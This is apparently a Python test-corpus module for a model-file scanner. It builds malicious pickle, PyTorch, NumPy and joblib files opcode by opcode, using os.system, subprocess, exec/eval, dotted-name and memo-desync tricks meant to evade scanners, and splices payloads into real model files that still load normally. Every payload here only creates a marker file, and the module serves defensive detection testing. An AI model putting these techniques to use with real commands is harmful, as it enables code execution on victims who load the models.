"""Ground-truth corpus for ``hpcml scan``: malicious, benign and malformed model files.

Every malicious file is assembled opcode by opcode (see the small assembler below,
written from the opcode table in :mod:`pickletools`); none is made by pickling an
object with a hostile ``__reduce__``. When a victim really loads one, its only effect
is to create the marker file whose path was given to the builder, through
``os.system('touch <marker>')``, ``touch`` run by :mod:`subprocess`, or
``open(<marker>, 'w').close()`` run by ``exec``/``eval``/a function.

A :class:`Case` couples a builder ``build(out_dir, marker) -> path`` with ``load(path)``,
the call a realistic victim makes (``pickle.load``, ``torch.load(weights_only=False)``,
``numpy.load(allow_pickle=True)``, ``joblib.load`` ...). Benign and malformed builders
take the same two arguments and ignore ``marker``.

* ``MALICIOUS`` -- files whose ``load`` creates the marker.
* ``BENIGN`` -- files written by the real libraries; ``load`` returns normally.
* ``MALFORMED`` -- broken pickles/safetensors and truncated copies; ``load`` raises.
* ``ALL_CASES`` -- every case above by name.

This module imports only the standard library at import time; torch, numpy, joblib
and safetensors are imported inside the builders/loaders that need them (``Case.needs``).
"""

from __future__ import annotations

import gzip
import io
import json
import marshal
import pickle
import pickletools
import shlex
import struct
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path

# --------------------------------------------------------------------------------------
# Opcode assembler. Each function returns the bytes of one opcode with its argument;
# a pickle is the concatenation of such pieces.
# --------------------------------------------------------------------------------------

MARK = b"("
STOP = b"."
POP = b"0"
NONE = b"N"
REDUCE = b"R"
BUILD = b"b"
TUPLE = b"t"
EMPTY_TUPLE = b")"
TUPLE1 = b"\x85"
TUPLE2 = b"\x86"
TUPLE3 = b"\x87"
LIST = b"l"
EMPTY_LIST = b"]"
APPENDS = b"e"
DICT = b"d"
EMPTY_DICT = b"}"
OBJ = b"o"
NEWOBJ = b"\x81"
NEWOBJ_EX = b"\x92"
STACK_GLOBAL = b"\x93"
MEMOIZE = b"\x94"


def proto(n: int) -> bytes:
    """PROTO: ``\\x80`` + one byte protocol number (protocol 2+)."""
    return b"\x80" + bytes([n])


def frame(body: bytes) -> bytes:
    """FRAME: ``\\x95`` + 8-byte little-endian length, followed by the framed bytes."""
    return b"\x95" + struct.pack("<Q", len(body)) + body


def assemble(protocol: int, *parts: bytes, stop: bool = True) -> bytes:
    """A whole pickle: PROTO (protocol >= 2), one FRAME (protocol >= 4), parts, STOP."""
    body = b"".join(parts) + (STOP if stop else b"")
    if protocol >= 4:
        return proto(protocol) + frame(body)
    if protocol >= 2:
        return proto(protocol) + body
    return body


def _line(text: str) -> bytes:
    if "\n" in text:
        raise ValueError("newline in a text-mode argument")
    return text.encode("utf-8") + b"\n"


def int_(n: int) -> bytes:
    """INT: decimal text line (protocol 0)."""
    return b"I" + _line(str(n))


def binint(n: int) -> bytes:
    """BININT1 / BININT2 / BININT, whichever is shortest (protocol 1+)."""
    if 0 <= n < 0x100:
        return b"K" + bytes([n])
    if 0 <= n < 0x10000:
        return b"M" + struct.pack("<H", n)
    return b"J" + struct.pack("<i", n)


def string(s: str) -> bytes:
    """STRING: a quoted, backslash-escaped ASCII literal on one line (protocol 0)."""
    return b"S" + repr(s.encode("ascii"))[1:].encode("ascii") + b"\n"


def unicode(s: str) -> bytes:
    """UNICODE: raw-unicode-escape text line (protocol 0); escapes \\ and newline."""
    escaped = s.replace("\\", "\\u005c").replace("\n", "\\u000a")
    return b"V" + escaped.encode("raw-unicode-escape") + b"\n"


def binunicode(s: str) -> bytes:
    """BINUNICODE: 4-byte length + UTF-8 (protocol 1+)."""
    data = s.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(data)) + data


def short_binunicode(s: str) -> bytes:
    """SHORT_BINUNICODE (< 256 bytes) or BINUNICODE8 (protocol 4+)."""
    data = s.encode("utf-8", "surrogatepass")
    if len(data) < 0x100:
        return b"\x8c" + bytes([len(data)]) + data
    return b"\x8d" + struct.pack("<Q", len(data)) + data


def binbytes(data: bytes) -> bytes:
    """SHORT_BINBYTES / BINBYTES (protocol 3+) or BINBYTES8 (protocol 4+)."""
    if len(data) < 0x100:
        return b"C" + bytes([len(data)]) + data
    if len(data) < 0x100000000:
        return b"B" + struct.pack("<I", len(data)) + data
    return b"\x8e" + struct.pack("<Q", len(data)) + data


def bytearray8(data: bytes) -> bytes:
    """BYTEARRAY8: 8-byte length + bytes, loads as a bytearray (protocol 5)."""
    return b"\x96" + struct.pack("<Q", len(data)) + data


def global_(module: str, name: str) -> bytes:
    """GLOBAL: ``c`` module newline name newline (any protocol)."""
    return b"c" + _line(module) + _line(name)


def inst(module: str, name: str) -> bytes:
    """INST: ``i`` module newline name newline; calls the class with the items since MARK."""
    return b"i" + _line(module) + _line(name)


def stack_global(module: str, name: str) -> bytes:
    """Push module and name as SHORT_BINUNICODE, then STACK_GLOBAL (protocol 4+)."""
    return short_binunicode(module) + short_binunicode(name) + STACK_GLOBAL


def put(index: int) -> bytes:
    """PUT: decimal memo index on a text line (protocol 0)."""
    return b"p" + _line(str(index))


def binput(index: int) -> bytes:
    """BINPUT (1-byte index) or LONG_BINPUT (4-byte index)."""
    if index < 0x100:
        return b"q" + bytes([index])
    return b"r" + struct.pack("<I", index)


def binget(index: int) -> bytes:
    """BINGET (1-byte index) or LONG_BINGET (4-byte index)."""
    if index < 0x100:
        return b"h" + bytes([index])
    return long_binget(index)


def long_binget(index: int) -> bytes:
    """LONG_BINGET, always with a 4-byte index."""
    return b"j" + struct.pack("<I", index)


def tup(*items: bytes) -> bytes:
    """A tuple of the pushed items: MARK ... TUPLE (valid in every protocol)."""
    return MARK + b"".join(items) + TUPLE


def short_tup(*items: bytes) -> bytes:
    """EMPTY_TUPLE / TUPLE1 / TUPLE2 / TUPLE3 when possible (protocol 2+)."""
    short = {0: EMPTY_TUPLE, 1: TUPLE1, 2: TUPLE2, 3: TUPLE3}
    if len(items) in short:
        return b"".join(items) + short[len(items)]
    return tup(*items)


def lst(*items: bytes) -> bytes:
    """A list of the pushed items: MARK ... LIST (valid in every protocol)."""
    return MARK + b"".join(items) + LIST


def call(func: bytes, *args: bytes, short: bool = False) -> bytes:
    """``func(*args)``: the callable, an argument tuple, REDUCE."""
    return func + (short_tup(*args) if short else tup(*args)) + REDUCE


# --------------------------------------------------------------------------------------
# What a payload does: the only side effect is creating the marker file.
# --------------------------------------------------------------------------------------


def touch_command(marker: Path) -> str:
    """Shell command for os.system: ``touch '<marker>'``."""
    return "touch " + shlex.quote(str(marker))


def touch_code(marker: Path) -> str:
    """Python expression/statement for exec/eval: ``open('<marker>', 'w').close()``."""
    return f"open({str(marker)!r}, 'w').close()"


def touch_argv(marker: Path, text: Callable[[str], bytes]) -> bytes:
    """The list ``['touch', '<marker>']`` for subprocess, strings emitted with ``text``."""
    return lst(text("touch"), text(str(marker)))


def os_system_call(marker: Path, protocol: int = 2) -> bytes:
    """Opcodes (no PROTO/STOP) that call ``os.system('touch <marker>')``, result on stack."""
    text = unicode if protocol < 1 else binunicode
    return call(global_("os", "system"), text(touch_command(marker)))


def wait_for(popen_ops: bytes, text: Callable[[str], bytes]) -> bytes:
    """``getattr(<popen>, 'wait')()`` so that the child has finished before load returns."""
    return call(call(global_("builtins", "getattr"), popen_ops, text("wait")))


def splice(payload_ops: bytes, benign_pickle: bytes) -> bytes:
    """Run ``payload_ops``, POP its result, then continue with a real protocol-2 pickle.

    The victim gets exactly the object the benign pickle describes (a real model still
    loads fine); the payload uses no memo, so the benign memo indexes are untouched.
    """
    if benign_pickle[:2] != proto(2):
        raise ValueError("splice needs a protocol-2 pickle (no frames)")
    return proto(2) + payload_ops + POP + benign_pickle[2:]


def pickle_ends(data: bytes, count: int) -> list[int]:
    """Offsets just after the STOP of each of the first ``count`` pickles in ``data``."""
    stream = io.BytesIO(data)
    ends = []
    for _ in range(count):
        for _op in pickletools.genops(stream):
            pass
        ends.append(stream.tell())
    return ends


# --------------------------------------------------------------------------------------
# Victim loaders.
# --------------------------------------------------------------------------------------


def load_pickle(path: Path) -> object:
    with open(path, "rb") as fh:
        return pickle.load(fh)


def load_pickle_twice(path: Path) -> object:
    """A reader of a multi-stream file: two pickle.load calls on one handle."""
    with open(path, "rb") as fh:
        first = pickle.load(fh)
        second = pickle.load(fh)
    return first, second


def load_torch_unsafe(path: Path) -> object:
    import torch

    return torch.load(path, map_location="cpu", weights_only=False)


def load_torch(path: Path) -> object:
    import torch

    return torch.load(path, map_location="cpu", weights_only=True)


def _numpy_load(path: Path, allow_pickle: bool) -> object:
    import numpy as np

    result = np.load(path, allow_pickle=allow_pickle)
    if isinstance(result, np.lib.npyio.NpzFile):
        with result:
            return {key: result[key] for key in result.files}
    return result


def load_numpy_pickle(path: Path) -> object:
    return _numpy_load(path, allow_pickle=True)


def load_numpy(path: Path) -> object:
    return _numpy_load(path, allow_pickle=False)


def load_joblib(path: Path) -> object:
    import joblib

    return joblib.load(path)


def load_safetensors_numpy(path: Path) -> object:
    from safetensors.numpy import load_file

    return load_file(str(path))


def load_safetensors_torch(path: Path) -> object:
    from safetensors.torch import load_file

    return load_file(str(path))


# --------------------------------------------------------------------------------------
# Cases.
# --------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[Path, Path], Path]  # (out_dir, marker) -> written file
    load: Callable[[Path], object]  # the victim's call
    proves: str  # what the case is ground truth for
    needs: tuple[str, ...] = ()  # importable modules the case needs (build or load)
    load_ok: bool = True  # the victim call returns normally (False: it raises)


def _bytes_case(
    name: str,
    suffix: str,
    make: Callable[[Path], bytes],
    proves: str,
    load: Callable[[Path], object] = load_pickle,
    needs: tuple[str, ...] = (),
    load_ok: bool = True,
) -> Case:
    """A case whose file is ``make(marker)`` written to ``<out_dir>/<name><suffix>``."""

    def build(out_dir: Path, marker: Path) -> Path:
        path = Path(out_dir) / f"{name}{suffix}"
        path.write_bytes(make(Path(marker)))
        return path

    return Case(name, build, load, proves, needs, load_ok)


# ---- 1. os.system ----------------------------------------------------------------------


def _os_system_proto0(marker: Path) -> bytes:
    return assemble(0, global_("os", "system"), MARK, string(touch_command(marker)), TUPLE, REDUCE)


def _os_system_proto4(marker: Path) -> bytes:
    return assemble(
        4, stack_global("os", "system"), short_binunicode(touch_command(marker)), TUPLE1, REDUCE
    )


def _posix_system(marker: Path) -> bytes:
    return assemble(
        2, call(global_("posix", "system"), binunicode(touch_command(marker)), short=True)
    )


def _os_system_no_stop(marker: Path) -> bytes:
    return assemble(2, os_system_call(marker), stop=False)


def _os_system_then_garbage(marker: Path) -> bytes:
    return proto(2) + os_system_call(marker) + b"\xff\xfe garbage"


# ---- 2. subprocess ----------------------------------------------------------------------


def _subprocess_popen(marker: Path) -> bytes:
    popen = call(global_("subprocess", "Popen"), touch_argv(marker, binunicode))
    return assemble(2, wait_for(popen, binunicode))


def _subprocess_run(marker: Path) -> bytes:
    return assemble(2, call(global_("subprocess", "run"), touch_argv(marker, binunicode)))


def _subprocess_check_call(marker: Path) -> bytes:
    return assemble(
        4,
        stack_global("subprocess", "check_call"),
        touch_argv(marker, short_binunicode),
        TUPLE1,
        REDUCE,
    )


# ---- 3. exec / eval ------------------------------------------------------------------------


def _builtins_exec(marker: Path) -> bytes:
    return assemble(
        4, stack_global("builtins", "exec"), short_binunicode(touch_code(marker)), TUPLE1, REDUCE
    )


def _builtins_eval(marker: Path) -> bytes:
    return assemble(0, call(global_("builtins", "eval"), unicode(touch_code(marker))))


def _py2_builtin_eval(marker: Path) -> bytes:
    # Protocol < 3 with fix_imports (the default) maps __builtin__ -> builtins.
    return assemble(
        2, call(global_("__builtin__", "eval"), binunicode(touch_code(marker)), short=True)
    )


# ---- 4. getattr chains and dotted names -----------------------------------------------------


def _getattr_import_chain(marker: Path) -> bytes:
    os_module = call(global_("builtins", "__import__"), binunicode("os"))
    system = call(global_("builtins", "getattr"), os_module, binunicode("system"))
    return assemble(2, call(system, binunicode(touch_command(marker))))


def _dotted_global_codecs(marker: Path) -> bytes:
    # Protocol >= 4 find_class follows dots for GLOBAL too: codecs.builtins is the
    # builtins module, so this is builtins.exec although the module reads "codecs".
    return assemble(
        4, call(global_("codecs", "builtins.exec"), short_binunicode(touch_code(marker)))
    )


def _dotted_stack_global_collections(marker: Path) -> bytes:
    # collections.__builtins__ is the builtins dict; its bound .get('eval') is eval.
    get = stack_global("collections", "__builtins__.get")
    evaluate = call(get, short_binunicode("eval"), short=True)
    return assemble(4, call(evaluate, short_binunicode(touch_code(marker)), short=True))


def _dotted_stack_global_torch_utils(marker: Path) -> bytes:
    # torch._utils (home of _rebuild_tensor_v2, in every torch pickle) imports os.
    return assemble(
        4,
        stack_global("torch._utils", "os.system"),
        short_binunicode(touch_command(marker)),
        TUPLE1,
        REDUCE,
    )


# ---- 5. importlib + operator gadgets -----------------------------------------------------------


def _import_module(module: str, text: Callable[[str], bytes]) -> bytes:
    return call(global_("importlib", "import_module"), text(module))


def _importlib_methodcaller(marker: Path) -> bytes:
    caller = call(
        global_("operator", "methodcaller"), binunicode("system"), binunicode(touch_command(marker))
    )
    return assemble(2, call(caller, _import_module("os", binunicode)))


def _importlib_attrgetter(marker: Path) -> bytes:
    getter = call(global_("operator", "attrgetter"), binunicode("system"))
    system = call(getter, _import_module("os", binunicode))
    return assemble(2, call(system, binunicode(touch_command(marker))))


def _underscore_operator_methodcaller(marker: Path) -> bytes:
    caller = call(
        stack_global("_operator", "methodcaller"),
        short_binunicode("system"),
        short_binunicode(touch_command(marker)),
        short=True,
    )
    module = call(stack_global("importlib", "import_module"), short_binunicode("posix"), short=True)
    return assemble(4, call(caller, module, short=True))


def _underscore_operator_attrgetter(marker: Path) -> bytes:
    getter = call(stack_global("_operator", "attrgetter"), short_binunicode("system"), short=True)
    module = call(stack_global("importlib", "import_module"), short_binunicode("os"), short=True)
    system = call(getter, module, short=True)
    return assemble(4, call(system, short_binunicode(touch_command(marker)), short=True))


# ---- 6. marshal + FunctionType -----------------------------------------------------------------


def _marshal_function(marker: Path) -> bytes:
    code = compile(touch_code(marker), "<payload>", "exec")
    code_obj = call(global_("marshal", "loads"), binbytes(marshal.dumps(code)), short=True)
    function = call(global_("types", "FunctionType"), code_obj, EMPTY_DICT, short=True)
    return assemble(3, call(function, short=True))


# ---- 7. nested pickle.loads --------------------------------------------------------------------


def _nested_loads(module: str) -> Callable[[Path], bytes]:
    def make(marker: Path) -> bytes:
        inner = _os_system_proto0(marker)
        return assemble(3, call(global_(module, "loads"), binbytes(inner), short=True))

    return make


# ---- 8. memo-table desync --------------------------------------------------------------------------


def _memo_desync(marker: Path) -> bytes:
    # The real memo: MEMOIZE stores at len(memo). Three BINPUTs fill 0..2 first, so
    # 'os' lands at 3 and 'system' at 4. A scanner that numbers MEMOIZEs 0, 1, 2 ...
    # (or forgets the BINPUTs) puts 'collections' at 3 and 'OrderedDict' at 4 and
    # resolves the STACK_GLOBAL below to collections.OrderedDict.
    def memoized(s: str) -> bytes:
        return short_binunicode(s) + MEMOIZE + POP

    return assemble(
        4,
        short_binunicode("pad0") + binput(0) + POP,
        short_binunicode("pad1") + binput(1) + POP,
        short_binunicode("pad2") + binput(2) + POP,
        memoized("os"),  # real index 3, naive 0
        memoized("system"),  # real index 4, naive 1
        memoized("pad3"),  # real index 5, naive 2
        memoized("collections"),  # real index 6, naive 3
        memoized("OrderedDict"),  # real index 7, naive 4
        binget(3),
        long_binget(4),
        STACK_GLOBAL,
        short_binunicode(touch_command(marker)),
        TUPLE1,
        REDUCE,
    )


# ---- 9. second pickle after STOP ----------------------------------------------------------------


def _second_stream(marker: Path) -> bytes:
    benign = pickle.dumps({"weights": [1.0, 2.0], "epoch": 3}, protocol=4)
    return benign + _os_system_proto4(marker)


# ---- 10. PyTorch zip ------------------------------------------------------------------------------


def _torch_payload(marker: Path) -> bytes:
    return os_system_call(marker)


def _torch_zip_case(name: str, filename: str, root: str | None, deflate: bool, proves: str) -> Case:
    def build(out_dir: Path, marker: Path) -> Path:
        import torch

        buf = io.BytesIO()
        torch.save({"weight": torch.arange(6, dtype=torch.float32).reshape(2, 3), "step": 3}, buf)
        with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as zin:
            entries = [(info, zin.read(info)) for info in zin.infolist()]
        old_root = entries[0][0].filename.split("/", 1)[0]
        path = Path(out_dir) / filename
        method = zipfile.ZIP_DEFLATED if deflate else zipfile.ZIP_STORED
        with zipfile.ZipFile(path, "w") as zout:
            for info, data in entries:
                rel = info.filename.split("/", 1)[1]
                if rel == "data.pkl":
                    data = splice(_torch_payload(Path(marker)), data)
                new = zipfile.ZipInfo(f"{root or old_root}/{rel}", date_time=info.date_time)
                new.compress_type = method
                zout.writestr(new, data)
        return path

    return Case(name, build, load_torch_unsafe, proves, ("torch",))


# ---- 11. numpy object arrays -----------------------------------------------------------------------


def _npy_header(descr: str, shape: tuple[int, ...]) -> bytes:
    """A version-1.0 .npy header, padded so that the data starts on a 64-byte boundary."""
    text = f"{{'descr': {descr!r}, 'fortran_order': False, 'shape': {shape!r}, }}"
    magic = b"\x93NUMPY\x01\x00"
    pad = -(len(magic) + 2 + len(text) + 1) % 64
    header = (text + " " * pad + "\n").encode("latin1")
    return magic + struct.pack("<H", len(header)) + header


def _malicious_npy(marker: Path) -> bytes:
    import numpy as np

    benign = pickle.dumps(np.array(["a", 1, None], dtype=object), protocol=2)
    return _npy_header("|O", (3,)) + splice(os_system_call(marker), benign)


def _build_npz(out_dir: Path, marker: Path) -> Path:
    import numpy as np

    path = Path(out_dir) / "numpy_object_in_npz.npz"
    plain = io.BytesIO()
    np.save(plain, np.arange(4, dtype=np.float32))
    with zipfile.ZipFile(path, "w") as zout:
        zout.writestr("weights.npy", plain.getvalue())
        zout.writestr("meta.npy", _malicious_npy(Path(marker)))
    return path


# ---- 12. joblib --------------------------------------------------------------------------------------


def _joblib_gzip(marker: Path) -> bytes:
    return gzip.compress(_os_system_proto4(marker))


# ---- 13. protocol 5, copyreg, INST / OBJ / NEWOBJ_EX -------------------------------------------------


def _proto5_bytearray8_exec(marker: Path) -> bytes:
    # exec() accepts a bytearray: the code never appears as a str opcode.
    return assemble(
        5, stack_global("builtins", "exec"), bytearray8(touch_code(marker).encode()), TUPLE1, REDUCE
    )


def _copyreg_reconstructor(marker: Path) -> bytes:
    # copyreg._reconstructor(cls, base, state) runs base.__init__(obj, state):
    # with base = subprocess.Popen that is Popen(['touch', marker]).
    popen_cls = global_("subprocess", "Popen")
    popen = call(
        global_("copyreg", "_reconstructor"), popen_cls, popen_cls, touch_argv(marker, binunicode)
    )
    return assemble(2, wait_for(popen, binunicode))


def _inst_popen(marker: Path) -> bytes:
    popen = MARK + touch_argv(marker, unicode) + inst("subprocess", "Popen")
    return assemble(0, wait_for(popen, unicode))


def _obj_popen(marker: Path) -> bytes:
    popen = MARK + global_("subprocess", "Popen") + touch_argv(marker, binunicode) + OBJ
    return assemble(1, wait_for(popen, binunicode))


def _newobj_ex_partial(marker: Path) -> bytes:
    # NEWOBJ_EX only runs cls.__new__: functools.partial.__new__ binds os.system and the
    # command; the REDUCE with an empty tuple then calls the partial.
    partial = (
        stack_global("functools", "partial")
        + short_tup(stack_global("os", "system"), short_binunicode(touch_command(marker)))
        + EMPTY_DICT
        + NEWOBJ_EX
    )
    return assemble(4, partial, EMPTY_TUPLE, REDUCE)


# ---- 14. legacy (non-zip) torch file --------------------------------------------------------------------


def _torch_legacy_case(name: str, which: int, proves: str) -> Case:
    """Legacy torch file = 5 pickles (magic, protocol, sys_info, data, storage keys) + raw
    storages; pickle number ``which`` gets the payload spliced in front of it."""

    def build(out_dir: Path, marker: Path) -> Path:
        import torch

        buf = io.BytesIO()
        torch.save(
            {"weight": torch.ones(2, 2), "step": 1}, buf, _use_new_zipfile_serialization=False
        )
        raw = buf.getvalue()
        ends = pickle_ends(raw, 5)
        starts = [0, *ends[:-1]]
        target = raw[starts[which] : ends[which]]
        patched = (
            raw[: starts[which]] + splice(_torch_payload(Path(marker)), target) + raw[ends[which] :]
        )
        path = Path(out_dir) / f"{name}.pt"
        path.write_bytes(patched)
        return path

    return Case(name, build, load_torch_unsafe, proves, ("torch",))


MALICIOUS: list[Case] = [
    # 1
    _bytes_case(
        "os_system_proto0_global",
        ".pkl",
        _os_system_proto0,
        "classic protocol-0 text pickle: GLOBAL 'os system' + MARK/STRING/TUPLE + REDUCE",
    ),
    _bytes_case(
        "os_system_proto4_stack_global",
        ".pkl",
        _os_system_proto4,
        "protocol 4, FRAME + STACK_GLOBAL('os','system') + TUPLE1 + REDUCE",
    ),
    _bytes_case(
        "posix_system_alias",
        ".pkl",
        _posix_system,
        "GLOBAL 'posix system' (what os.system really is on Linux) must be flagged like os.system",
    ),
    _bytes_case(
        "os_system_without_stop",
        ".pkl",
        _os_system_no_stop,
        "payload runs at REDUCE although the pickle has no STOP (victim then gets EOFError)",
        load_ok=False,
    ),
    _bytes_case(
        "os_system_then_garbage",
        ".pkl",
        _os_system_then_garbage,
        "payload runs before the unpickler hits an invalid opcode: a parse error is no all-clear",
        load_ok=False,
    ),
    # 2
    _bytes_case(
        "subprocess_popen",
        ".pkl",
        _subprocess_popen,
        "subprocess.Popen(['touch', m]) then getattr(p, 'wait')()",
    ),
    _bytes_case("subprocess_run", ".pkl", _subprocess_run, "subprocess.run(['touch', m])"),
    _bytes_case(
        "subprocess_check_call",
        ".pkl",
        _subprocess_check_call,
        "subprocess.check_call via STACK_GLOBAL, protocol 4",
    ),
    # 3
    _bytes_case(
        "builtins_exec", ".pkl", _builtins_exec, "builtins.exec of a code string (STACK_GLOBAL)"
    ),
    _bytes_case(
        "builtins_eval_proto0", ".pkl", _builtins_eval, "builtins.eval of an expression, protocol 0"
    ),
    _bytes_case(
        "py2_builtin_eval_proto2",
        ".pkl",
        _py2_builtin_eval,
        "GLOBAL '__builtin__ eval' in protocol 2: fix_imports maps it to builtins.eval",
    ),
    # 4
    _bytes_case(
        "getattr_import_chain",
        ".pkl",
        _getattr_import_chain,
        "getattr(__import__('os'), 'system')(cmd) built only from REDUCEs",
    ),
    _bytes_case(
        "dotted_global_codecs_builtins_exec",
        ".pkl",
        _dotted_global_codecs,
        "protocol 4 GLOBAL 'codecs' 'builtins.exec': dotted names are followed, codecs.builtins is builtins",
    ),
    _bytes_case(
        "dotted_stack_global_collections_builtins_get",
        ".pkl",
        _dotted_stack_global_collections,
        "STACK_GLOBAL 'collections' '__builtins__.get' -> dict.get('eval') -> eval(code); "
        "an allowlisted module name hides builtins",
    ),
    _bytes_case(
        "dotted_stack_global_torch_utils_os_system",
        ".pkl",
        _dotted_stack_global_torch_utils,
        "STACK_GLOBAL 'torch._utils' 'os.system': allowlisting the torch._utils module is not enough",
        needs=("torch",),
    ),
    # 5
    _bytes_case(
        "importlib_methodcaller",
        ".pkl",
        _importlib_methodcaller,
        "operator.methodcaller('system', cmd)(importlib.import_module('os'))",
    ),
    _bytes_case(
        "importlib_attrgetter",
        ".pkl",
        _importlib_attrgetter,
        "operator.attrgetter('system')(importlib.import_module('os'))(cmd)",
    ),
    _bytes_case(
        "underscore_operator_methodcaller",
        ".pkl",
        _underscore_operator_methodcaller,
        "_operator.methodcaller + import_module('posix'), protocol 4",
    ),
    _bytes_case(
        "underscore_operator_attrgetter",
        ".pkl",
        _underscore_operator_attrgetter,
        "_operator.attrgetter + import_module('os'), protocol 4",
    ),
    # 6
    _bytes_case(
        "marshal_function_type",
        ".pkl",
        _marshal_function,
        "types.FunctionType(marshal.loads(<code bytes>), {})() runs compiled code",
    ),
    # 7
    _bytes_case(
        "nested_pickle_loads",
        ".pkl",
        _nested_loads("pickle"),
        "pickle.loads(BINBYTES <protocol-0 os.system pickle>): the scanner must look inside bytes",
    ),
    _bytes_case(
        "nested_underscore_pickle_loads",
        ".pkl",
        _nested_loads("_pickle"),
        "_pickle.loads of an inner malicious pickle",
    ),
    # 8
    _bytes_case(
        "memo_desync_stack_global",
        ".pkl",
        _memo_desync,
        "STACK_GLOBAL args from BINGET 3 / LONG_BINGET 4 are 'os','system' in the real memo "
        "(MEMOIZE stores at len(memo) after BINPUTs at 0..2) but 'collections','OrderedDict' "
        "for a scanner that counts MEMOIZEs",
    ),
    # 9
    _bytes_case(
        "second_pickle_after_stop",
        ".pkl",
        _second_stream,
        "benign pickle, STOP, then a malicious pickle; victim calls pickle.load twice",
        load=load_pickle_twice,
    ),
    # 10
    _torch_zip_case(
        "torch_zip_data_pkl",
        "torch_zip_data_pkl.pt",
        None,
        False,
        "real torch.save zip, data.pkl = os.system + POP + original pickle; loads fine",
    ),
    _torch_zip_case(
        "torch_zip_space_dirname",
        "torch_zip_space_dirname.pt",
        "x y",
        False,
        "archive folder 'x y/' instead of the file stem",
    ),
    _torch_zip_case(
        "torch_zip_unicode_dirname",
        "torch_zip_unicode_dirname.pt",
        "модель-ü",
        False,
        "archive folder with non-ASCII (UTF-8 flagged) name",
    ),
    _torch_zip_case(
        "torch_zip_bin_extension",
        "pytorch_model.bin",
        None,
        False,
        "torch zip named .bin (HF style): detect by content, not extension",
    ),
    _torch_zip_case(
        "torch_zip_weird_extension",
        "torch_zip_weird_extension.weird",
        None,
        False,
        "torch zip with an unknown extension",
    ),
    _torch_zip_case(
        "torch_zip_deflated",
        "torch_zip_deflated.pt",
        None,
        True,
        "every zip entry deflate-compressed instead of stored",
    ),
    # 11
    _bytes_case(
        "numpy_object_npy",
        ".npy",
        _malicious_npy,
        "object-dtype .npy whose pickle runs os.system then yields a real object array",
        load=load_numpy_pickle,
        needs=("numpy",),
    ),
    Case(
        "numpy_object_in_npz",
        _build_npz,
        load_numpy_pickle,
        "the same malicious .npy as a member of an .npz next to a plain float array",
        ("numpy",),
    ),
    # 12
    _bytes_case(
        "joblib_pickle",
        ".joblib",
        _os_system_proto4,
        "malicious pickle loaded by joblib.load (joblib's pure-Python unpickler)",
        load=load_joblib,
        needs=("joblib",),
    ),
    _bytes_case(
        "joblib_gzip",
        ".joblib",
        _joblib_gzip,
        "gzip-compressed malicious pickle: joblib.load sniffs and decompresses it",
        load=load_joblib,
        needs=("joblib",),
    ),
    # 13
    _bytes_case(
        "proto5_bytearray8_exec",
        ".pkl",
        _proto5_bytearray8_exec,
        "protocol 5: exec() of code carried in BYTEARRAY8, no str opcode holds the code",
    ),
    _bytes_case(
        "copyreg_reconstructor_popen",
        ".pkl",
        _copyreg_reconstructor,
        "copyreg._reconstructor(Popen, Popen, argv): the dangerous class is the base argument",
    ),
    _bytes_case(
        "inst_popen", ".pkl", _inst_popen, "INST 'subprocess Popen' (protocol 0) instantiates Popen"
    ),
    _bytes_case(
        "obj_popen", ".pkl", _obj_popen, "OBJ opcode (protocol 1) instantiates subprocess.Popen"
    ),
    _bytes_case(
        "newobj_ex_partial_os_system",
        ".pkl",
        _newobj_ex_partial,
        "NEWOBJ_EX functools.partial(os.system, cmd) then REDUCE with () calls it",
    ),
    # 14
    _torch_legacy_case(
        "torch_legacy_data_pickle",
        3,
        "legacy (non-zip) torch file, payload spliced before the data pickle; loads fine",
    ),
    _torch_legacy_case(
        "torch_legacy_first_pickle",
        0,
        "legacy torch file, payload spliced before the magic-number pickle (the first "
        "of its five pickles); loads fine",
    ),
]


# --------------------------------------------------------------------------------------
# Benign files, written by the real libraries.
# --------------------------------------------------------------------------------------


def stdlib_sample() -> dict:
    """Plain standard-library data (needs REDUCE/NEWOBJ/copyreg for several types)."""
    import collections
    import datetime
    import decimal
    import fractions
    import uuid

    counts = collections.defaultdict(list)
    counts["a"].append(1)
    return {
        "ints": [0, 1, -1, 255, 65536, 2**31, -(2**63), 10**30],
        "floats": (0.5, -1e300, float("inf")),
        "complex": 1 + 2j,
        "text": "héllo\n\\ wörld",
        "bytes": b"\x00\x01\xff",
        "bytearray": bytearray(b"xyz"),
        "none_bool": [None, True, False],
        "set": {1, 2, 3},
        "frozenset": frozenset({"a", "b"}),
        "tuple": (1, (2, (3,))),
        "nested": {"list": [[1], {"k": "v"}]},
        "datetime": datetime.datetime(2024, 1, 2, 3, 4, 5, 6),
        "date": datetime.date(2024, 1, 2),
        "timedelta": datetime.timedelta(days=1, seconds=2),
        "utc": datetime.datetime(2024, 1, 2, tzinfo=datetime.timezone.utc),
        "decimal": decimal.Decimal("3.14159"),
        "fraction": fractions.Fraction(1, 3),
        "ordered": collections.OrderedDict([("b", 1), ("a", 2)]),
        "defaultdict": counts,
        "counter": collections.Counter("hello"),
        "uuid": uuid.UUID(int=5),
        "range": range(0, 10, 2),
        "slice": slice(1, 5, 2),
    }


def _pickle_stdlib(protocol: int) -> Case:
    return _bytes_case(
        f"pickle_stdlib_p{protocol}",
        ".pkl",
        lambda _m: pickle.dumps(stdlib_sample(), protocol=protocol),
        f"pickle.dumps protocol {protocol} of stdlib data (dict/list/set/tuple/datetime/Decimal/"
        "OrderedDict/defaultdict/UUID/bytes...); needs _codecs.encode, copyreg._reconstructor, "
        "collections.*, datetime.* etc. to be accepted",
    )


def _pickle_numpy(protocol: int) -> Case:
    def make(_marker: Path) -> bytes:
        import numpy as np

        return pickle.dumps(np.arange(12, dtype=np.float64).reshape(3, 4), protocol=protocol)

    return _bytes_case(
        f"pickle_numpy_p{protocol}",
        ".pkl",
        make,
        f"numpy array pickled with protocol {protocol}",
        needs=("numpy",),
    )


def _file_case(
    name: str,
    suffix: str,
    write: Callable[[Path], None],
    load: Callable[[Path], object],
    proves: str,
    needs: tuple[str, ...],
) -> Case:
    def build(out_dir: Path, _marker: Path) -> Path:
        path = Path(out_dir) / f"{name}{suffix}"
        write(path)
        return path

    return Case(name, build, load, proves, needs)


def _torch_state_dict():
    import torch

    torch.manual_seed(0)
    return torch.nn.Sequential(
        torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2)
    ).state_dict()


def _write_torch_state_dict(path: Path) -> None:
    import torch

